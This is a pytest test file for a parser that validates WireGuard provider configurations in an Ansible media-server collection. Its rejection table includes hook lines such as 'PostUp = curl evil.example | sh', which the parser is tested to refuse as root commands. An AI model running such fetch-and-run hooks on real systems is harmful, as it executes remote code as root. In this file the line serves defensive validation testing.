# SPDX-License-Identifier: GPL-3.0-or-later
"""Normal form of a provider's configuration, by tables of texts."""

from __future__ import annotations

from typing import Any

import pytest
from ansible_collections.household.mediaserver.plugins.module_utils._wireguard.config import from_conf
from ansible_collections.household.mediaserver.plugins.module_utils._wireguard.draft import ConfigurationError
from ansible_collections.household.mediaserver.plugins.module_utils._wireguard.values import public_key
from ansible_collections.household.mediaserver.tests.unit.plugins.module_utils._wireguard.samples import (
    MINIMAL,
    MINIMAL_NORMAL,
    PRESHARED,
    PRIVATE,
    SECOND_SERVER,
    SERVER,
)

SECOND_PEER = f"[Peer]\nPublicKey = {SECOND_SERVER}\nAllowedIPs = 0.0.0.0/0\nEndpoint = vpn2.example.org:443\n"


def changed(old: str, new: str, text: str = MINIMAL) -> str:
    """Return the minimal configuration with one piece of text replaced."""
    assert old in text
    return text.replace(old, new)


def interface(line: str) -> str:
    return changed("DNS = 10.66.0.1\n", f"DNS = 10.66.0.1\n{line}\n")


def peer(line: str) -> str:
    return f"{MINIMAL}{line}\n"


SAME = {
    "minimal": MINIMAL,
    "byte order mark": "\ufeff" + MINIMAL,
    "CRLF line endings": MINIMAL.replace("\n", "\r\n"),
    "CR line endings": MINIMAL.replace("\n", "\r"),
    "no final newline": MINIMAL.rstrip("\n"),
    "keys in lower case": MINIMAL.replace("PrivateKey", "privatekey").replace("AllowedIPs", "allowedips"),
    "sections in capitals": MINIMAL.replace("[Peer]", "[PEER]").replace("[Interface]", "[ INTERFACE ]"),
    "no space around =": MINIMAL.replace(" = ", "="),
    "tabs and spaces": MINIMAL.replace(" = ", "\t=  ").replace("\n", " \t\n  "),
    "comment lines": "# from the provider\n\n" + MINIMAL.replace("[Peer]", "# PostUp = evil\n[Peer]\n# server 7"),
    "comments after values": changed("10.66.0.1\n", "10.66.0.1 # resolver\n"),
    "peer before interface": "\n".join(reversed(MINIMAL.split("\n\n"))),
    "address without a prefix": changed("10.66.0.2/32", "10.66.0.2"),
    "address in two lines, duplicate": interface("Address = 10.66.0.2/32"),
    "default route in halves": changed("0.0.0.0/0", "0.0.0.0/1, 128.0.0.0/1"),
    "default route and parts of it": changed("0.0.0.0/0", "10.0.0.0/8, 0.0.0.0/0"),
    "AllowedIPs in two lines": changed("AllowedIPs = 0.0.0.0/0", "AllowedIPs = 0.0.0.0/1\nAllowedIPs = 128.0.0.0/1"),
    "default keepalive": peer("PersistentKeepalive = 25"),
    "lists with blanks": changed("0.0.0.0/0", "0.0.0.0/1 128.0.0.0/1").replace("10.66.0.1\n", " 10.66.0.1  ,\n"),
    "optional settings left empty": interface("MTU =\nPostUp =\nTable=") + "PresharedKey =\nPersistentKeepalive =\n",
}


@pytest.mark.parametrize("text", SAME.values(), ids=SAME.keys())
def test_equivalent_text_has_the_same_normal_form(text: str) -> None:
    assert from_conf(text) == MINIMAL_NORMAL


KEPT: dict[str, tuple[str, dict[str, Any]]] = {
    "MTU": (interface("MTU = 1380"), {"mtu": 1380}),
    "several addresses": (
        interface("Address = 10.67.0.2/24"),
        {"addresses": ["10.66.0.2/32", "10.67.0.2/24"]},
    ),
    "several resolvers": (
        changed("DNS = 10.66.0.1", "DNS = 10.66.0.1,10.66.0.9"),
        {"dns": ["10.66.0.1", "10.66.0.9"]},
    ),
}
KEPT_PEER: dict[str, tuple[str, dict[str, Any]]] = {
    "preshared key": (peer(f"PresharedKey = {PRESHARED}"), {"preshared_key": PRESHARED}),
    "keepalive of the provider": (peer("PersistentKeepalive = 15"), {"keepalive": 15}),
    "name as endpoint": (
        changed("198.18.0.20:51820", "VPN.Example.org.:443"),
        {"host": "vpn.example.org", "port": 443},
    ),
}


@pytest.mark.parametrize(("text", "expected"), KEPT.values(), ids=KEPT.keys())
def test_interface_setting_is_kept(text: str, expected: dict[str, Any]) -> None:
    assert from_conf(text) == MINIMAL_NORMAL | expected


@pytest.mark.parametrize(("text", "expected"), KEPT_PEER.values(), ids=KEPT_PEER.keys())
def test_peer_setting_is_kept(text: str, expected: dict[str, Any]) -> None:
    assert from_conf(text)["peers"] == [MINIMAL_NORMAL["peers"][0] | expected]


NOTED = {
    "ListenPort": (interface("ListenPort = 51820"), "line 5: ListenPort is not used"),
    "FwMark": (interface("FwMark = off"), "line 5: FwMark is not used"),
    "Table": (interface("Table = off"), "line 5: Table is not used"),
    "SaveConfig": (interface("SaveConfig = true"), "line 5: SaveConfig is not used"),
    "address of IPv6": (
        interface("Address = fd00:66::2/128"),
        "line 5: address fd00:66::2/128 is dropped: mediaserver_ipv6",
    ),
    "resolver of IPv6": (
        changed("10.66.0.1", "10.66.0.1, fd00:66::1"),
        "line 4: resolver fd00:66::1 is dropped",
    ),
    "search domain": (
        changed("10.66.0.1", "10.66.0.1, home.example"),
        "line 4: the search domain is not used",
    ),
    "keepalive off": (peer("PersistentKeepalive = off"), "line 10: keepalive is set to 25 s"),
    "keepalive 0": (peer("PersistentKeepalive = 0"), "line 10: keepalive is set to 25 s"),
    "default route of IPv6": (
        changed("0.0.0.0/0", "0.0.0.0/0, ::/0"),
        "line 8: AllowedIPs ::/0 is dropped: mediaserver_ipv6 is off",
    ),
    "a phone's apps": (
        interface("ExcludedApplications = com.example.bank"),
        "line 5: ExcludedApplications is not used: it lists apps",
    ),
    "peer given twice": (MINIMAL + MINIMAL.partition("\n\n")[2], "line 10: this peer is a duplicate"),
}


@pytest.mark.parametrize(("text", "note"), NOTED.values(), ids=NOTED.keys())
def test_unused_setting_is_dropped_with_a_note(text: str, note: str) -> None:
    normal = from_conf(text)
    assert normal | {"notes": []} == MINIMAL_NORMAL
    assert len(normal["notes"]) == 1
    assert normal["notes"][0].startswith(f"gateway_provider_config, {note}")


def test_several_peers_are_candidates_in_file_order() -> None:
    peers = from_conf(MINIMAL + SECOND_PEER)["peers"]
    assert [(entry["host"], entry["port"], entry["public_key"]) for entry in peers] == [
        ("198.18.0.20", 51820, SERVER),
        ("vpn2.example.org", 443, SECOND_SERVER),
    ]


def test_ipv6_values_follow_ipv4_values() -> None:
    text = changed("10.66.0.2/32", "fd00:66::2/128, 10.66.0.2/32").replace("10.66.0.1", "FD00:66::1,10.66.0.1")
    normal = from_conf(text.replace("0.0.0.0/0", "::/0, 0.0.0.0/0"), ipv6=True)
    assert normal["addresses"] == ["10.66.0.2/32", "fd00:66::2/128"]
    assert normal["dns"] == ["10.66.0.1", "fd00:66::1"]
    assert normal["peers"][0]["allowed_ips"] == ["0.0.0.0/0", "::/0"]
    assert normal["notes"] == []


@pytest.mark.parametrize("text", [MINIMAL, MINIMAL.replace("DNS = 10.66.0.1\n", "")], ids=["with DNS", "without"])
def test_gateway_dns_replaces_the_files_resolver(text: str) -> None:
    assert from_conf(text, dns=["10.9.9.9"])["dns"] == ["10.9.9.9"]


REFUSED = {
    # missing parts
    "empty text": (" \r\n", "gateway_provider_config: the text is empty"),
    "no interface": (MINIMAL.partition("\n\n")[2], "gateway_provider_config: there is no [Interface] section"),
    "no peer": (MINIMAL.partition("\n\n")[0], "gateway_provider_config: there is no server to connect to"),
    "no private key": (changed(f"PrivateKey = {PRIVATE}\n", ""), "line 1: [Interface] has no PrivateKey"),
    "no address": (changed("Address = 10.66.0.2/32\n", ""), "line 1: the tunnel has no IPv4 address"),
    "no resolver": (changed("DNS = 10.66.0.1\n", ""), "line 1: no resolver is given"),
    "no public key": (changed(f"PublicKey = {SERVER}\n", ""), "line 6: the peer has no public key"),
    "no endpoint": (changed("Endpoint = 198.18.0.20:51820\n", ""), "line 6: the peer has no endpoint"),
    "no AllowedIPs": (changed("AllowedIPs = 0.0.0.0/0\n", ""), "line 6: there is no default route"),
    "no value": (changed("10.66.0.1", ""), "line 1: no resolver is given"),
    "no value of a required setting": (changed("198.18.0.20:51820", ""), "line 9: Endpoint has no value"),
    "a second peer without endpoint": (
        MINIMAL + SECOND_PEER.replace("Endpoint", "# Endpoint"),
        "line 10: the peer has no endpoint",
    ),
    # form
    "not a setting": (interface("hello"), "line 5: the line is not of the form"),
    "a key line with a colon": (
        interface(f"PrivateKey: {PRIVATE[:-1]}"),
        "line 5: the line is not of the form",
    ),
    "setting before any section": (f"MTU = 1420\n{MINIMAL}", "line 1: a setting is before any section"),
    "unknown section": (f"{MINIMAL}[WebSocket]\n", "line 10: the section is neither"),
    "broken section": (f"{MINIMAL}[Peer\n", "line 10: the section is neither"),
    "second interface": (f"{MINIMAL}[Interface]\n", "line 10: there is a second [Interface]"),
    "unknown setting": (interface("Speed = 9"), "line 5: the setting is unknown"),
    "setting of AmneziaWG": (interface("Jc = 4"), "line 5: this is a setting of AmneziaWG"),
    "setting in the wrong section": (peer("DNS = 10.66.0.1"), "line 10: this setting belongs to [Interface]"),
    "peer's setting in the interface": (
        interface("Endpoint = a.b:1"),
        "line 5: this setting belongs to [Peer]",
    ),
    "setting given twice": (interface("MTU = 1400\nMTU = 1420"), "line 6: MTU is given a second time"),
    "too long": (MINIMAL + "# x\n" * 20000, "gateway_provider_config: the text has more than 65536 characters"),
    # hooks
    **{
        f"hook {hook}": (
            interface(f"{hook} = curl evil.example | sh"),
            f"line 5: {hook} is a command that would run as root",
        )
        for hook in ("PreUp", "PostUp", "PreDown", "PostDown")
    },
    "hook in lower case": (interface("postup=true"), "line 5: PostUp is a command"),
    "hook in a peer": (peer("PostUp = true"), "line 10: PostUp is a command"),
    # keys
    "private key not base64": (changed(PRIVATE, "!" * 44), "line 2: PrivateKey: the key is not base64"),
    "truncated private key": (changed(PRIVATE, PRIVATE[:40]), "line 2: PrivateKey: the key has 30 bytes"),
    "private key without its =": (
        changed(PRIVATE, PRIVATE[:-1]),
        "line 2: PrivateKey: the key is not base64",
    ),
    "private key with impossible end": (
        changed(PRIVATE, PRIVATE[:-2] + "B="),
        "line 2: PrivateKey: the key's last",
    ),
    "private key of zeros": (changed(PRIVATE, "A" * 43 + "="), "line 2: PrivateKey: the key is all zeros"),
    "public key of zeros": (changed(SERVER, "A" * 43 + "="), "line 7: PublicKey: the key is all zeros"),
    "preshared key malformed": (peer("PresharedKey = 1234"), "line 10: PresharedKey: the key has 3 bytes"),
    "own public key": (
        changed(SERVER, public_key(PRIVATE)),
        "line 7: PublicKey: this is the tunnel's own key",
    ),
    "own private key as public key": (
        changed(SERVER, PRIVATE),
        "line 7: PublicKey: this is the tunnel's own key",
    ),
    # addresses
    "address malformed": (changed("10.66.0.2/32", "10.66.0.256"), "line 3: Address: this is not a valid IP address"),
    "address with prefix length 0": (
        changed("10.66.0.2/32", "10.66.0.2/0"),
        "line 3: Address: the address has prefix",
    ),
    "address is loopback": (changed("10.66.0.2/32", "127.0.0.2"), "line 3: Address: the address is loopback"),
    "address of IPv6 alone": (
        changed("10.66.0.2/32", "fd00::2/128"),
        "line 1: the tunnel has no IPv4 address",
    ),
    "resolver malformed": (changed("10.66.0.1", "10.66.0.1/32"), "line 4: DNS: the resolver is neither"),
    "resolver is loopback": (changed("10.66.0.1", "127.0.0.1"), "line 4: DNS: the resolver is loopback"),
    "resolver of IPv6 alone": (changed("10.66.0.1", "fd00::1"), "line 4: DNS: no resolver is given"),
    "search domain alone": (changed("10.66.0.1", "home.example"), "line 4: DNS: no resolver is given"),
    # routes
    "no default route": (changed("0.0.0.0/0", "10.0.0.0/8"), "line 8: AllowedIPs: there is no default route"),
    "half a default route": (
        changed("0.0.0.0/0", "0.0.0.0/1"),
        "line 8: AllowedIPs: there is no default route",
    ),
    "default route of IPv6 alone": (
        changed("0.0.0.0/0", "::/0"),
        "line 8: AllowedIPs: there is no default route",
    ),
    "AllowedIPs malformed": (
        changed("0.0.0.0/0", "everything"),
        "line 8: AllowedIPs: an entry is not a network",
    ),
    # endpoints
    "endpoint without port": (changed(":51820", ""), "line 9: Endpoint: the endpoint has no port"),
    "endpoint of IPv6": (
        changed("198.18.0.20:51820", "[2001:db8::1]:51820"),
        "line 9: Endpoint: the endpoint is an IPv6",
    ),
    "endpoint of IPv6, no brackets": (
        changed("198.18.0.20", "2001:db8::1"),
        "line 9: Endpoint: the endpoint is an IPv6",
    ),
    "endpoint is loopback": (
        changed("198.18.0.20", "127.0.0.1"),
        "line 9: Endpoint: the endpoint is loopback",
    ),
    "endpoint is localhost": (
        changed("198.18.0.20", "localhost"),
        "line 9: Endpoint: the endpoint is this host",
    ),
    "endpoint is multicast": (
        changed("198.18.0.20", "224.0.0.1"),
        "line 9: Endpoint: the endpoint is multicast",
    ),
    "endpoint is 0.0.0.0": (
        changed("198.18.0.20", "0.0.0.0"),
        "line 9: Endpoint: the endpoint is unspecified",
    ),
    "endpoint is broadcast": (
        changed("198.18.0.20", "255.255.255.255"),
        "line 9: Endpoint: the endpoint is reserved",
    ),
    "endpoint is half an address": (
        changed("198.18.0.20", "198.18"),
        "line 9: Endpoint: the endpoint's host is not an IPv4",
    ),
    "endpoint's name malformed": (
        changed("198.18.0.20", "my_server!"),
        "line 9: Endpoint: the endpoint's host is not a valid name",
    ),
    "port 0": (changed(":51820", ":0"), "line 9: Endpoint: the port is not a number from 1 to 65535"),
    "port too large": (changed(":51820", ":65536"), "line 9: Endpoint: the port is not a number"),
    "port in words": (changed(":51820", ":wg"), "line 9: Endpoint: the port is not a number"),
    "port with a sign": (changed(":51820", ":+51820"), "line 9: Endpoint: the port is not a number"),
    "same endpoint, other key": (
        MINIMAL + SECOND_PEER.replace("vpn2.example.org:443", "198.18.0.20:51820"),
        "line 10: an earlier peer has the same endpoint",
    ),
    # numbers
    "MTU too small": (interface("MTU = 575"), "line 5: MTU: the MTU is not a number from 576 to 1500"),
    "MTU too large": (interface("MTU = 1501"), "line 5: MTU: the MTU is not a number"),
    "MTU in words": (interface("MTU = auto"), "line 5: MTU: the MTU is not a number"),
    "keepalive too large": (
        peer("PersistentKeepalive = 65536"),
        "line 10: PersistentKeepalive: the keepalive is not",
    ),
}


@pytest.mark.parametrize(("text", "expected"), REFUSED.values(), ids=REFUSED.keys())
def test_invalid_text_is_rejected_with_place_and_remedy(text: str, expected: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        from_conf(text)
    message = str(caught.value)
    prefix = "" if expected.startswith("gateway") else "gateway_provider_config, "
    assert message.startswith(prefix + expected)
    problem, _stop, remedy = message.partition(". ")
    assert remedy.endswith("."), f"{problem!r} comes without a remedy"
    assert not any(secret[:-1] in message for secret in (PRIVATE, PRESHARED))


def test_minimum_mtu_with_ipv6_is_1280() -> None:
    with pytest.raises(ConfigurationError, match="from 1280 to 1500"):
        from_conf(interface("MTU = 1279"), ipv6=True)


def test_missing_resolver_names_gateway_dns_as_remedy() -> None:
    with pytest.raises(ConfigurationError, match=r"no DNS query may bypass it.*Set gateway_dns"):
        from_conf(changed("DNS = 10.66.0.1\n", ""))
